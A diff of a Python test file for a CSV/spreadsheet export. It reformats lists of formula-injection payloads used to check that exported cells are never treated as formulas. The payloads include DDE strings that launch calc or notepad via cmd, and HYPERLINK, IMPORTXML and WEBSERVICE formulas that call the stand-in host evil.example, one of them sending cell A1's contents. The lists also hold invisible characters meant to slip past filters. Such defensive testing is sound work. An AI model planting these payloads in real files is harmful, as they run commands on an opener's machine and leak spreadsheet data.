@@ -37,14 +37,56 @@ from tests.store.builders import ADMIN, NOON, opened
 DAYS = Days(NOON.date() - timedelta(days=20), NOON.date())
 ASKED = Filters(DAYS, ("acme",))
 SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫"
-HIDDEN = ["", "", "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u2060", '"', "'", "\x00", "\x0b",
-          "\u3000", " \t ",
-          '" ', "x;", "x;\"", "x\t", "x\n", "x\r\n \"", "a,\"", "\u00ad", "\u202e", "\U000e0020"]  # fmt: skip
+HIDDEN = [
+    "",
+    "",
+    "",
+    " ",
+    "\t",
+    "\r",
+    "\n",
+    "\r\n",
+    "\u00a0",
+    "\u200b",
+    "\ufeff",
+    "\u2060",
+    '"',
+    "'",
+    "\x00",
+    "\x0b",
+    "\u3000",
+    " \t ",
+    '" ',
+    "x;",
+    'x;"',
+    "x\t",
+    "x\n",
+    'x\r\n "',
+    'a,"',
+    "\u00ad",
+    "\u202e",
+    "\U000e0020",
+]
 BODIES = [
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', 'IMPORTXML("http://evil.example","//a")',
-    "SUM(1+9)*cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"x\")", "WEBSERVICE(\"http://evil.example\")", "A1", "2",
-    "-3", "1;=2", "@SUM(1)", "", "\"\"", "1\";=2;\"", "10+20+cmd|'/C notepad'!'A1'", "名前", "x,=y",
-]  # fmt: skip
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example/?"&A1,"x")',
+    'IMPORTXML("http://evil.example","//a")',
+    "SUM(1+9)*cmd|' /C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    'WEBSERVICE("http://evil.example")',
+    "A1",
+    "2",
+    "-3",
+    "1;=2",
+    "@SUM(1)",
+    "",
+    '""',
+    '1";=2;"',
+    "10+20+cmd|'/C notepad'!'A1'",
+    "名前",
+    "x,=y",
+]
 NUMBER = re.compile(r"-?\d+(\.\d+)?")
 
 
@@ -165,11 +207,13 @@ def test_all_texts_are_in_the_exports(exported: dict[str, Table], texts: list[st
 def test_negative_numbers_stay_numbers(exported: dict[str, Table]) -> None:
     negative = {
         name: sum(
-            text.startswith("-") for row, shown in zip(t.rows, cells(t), strict=True)
-            for cell, text in zip(row, shown, strict=True) if isinstance(cell, int | Decimal)
+            text.startswith("-")
+            for row, shown in zip(t.rows, cells(t), strict=True)
+            for cell, text in zip(row, shown, strict=True)
+            if isinstance(cell, int | Decimal)
         )
         for name, t in exported.items()
-    }  # fmt: skip
+    }
     for name in (*VIEWS, "restatements", "lab-roi"):
         assert negative[name] > 0, negative
 
@@ -180,8 +224,12 @@ def test_whatever_separates_cells_where_the_reader_lives_none_is_a_formula(
 ) -> None:
     """The file is opened with a double click: then the reader's own list separator counts, not the file's."""
     for name, found in exported.items():
-        ours = {text for row, shown in zip(found.rows, cells(found), strict=True)
-                for cell, text in zip(row, shown, strict=True) if not isinstance(cell, str)}  # fmt: skip
+        ours = {
+            text
+            for row, shown in zip(found.rows, cells(found), strict=True)
+            for cell, text in zip(row, shown, strict=True)
+            if not isinstance(cell, str)
+        }
         text = tables.to_csv(found)
         for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
             for cell in row:
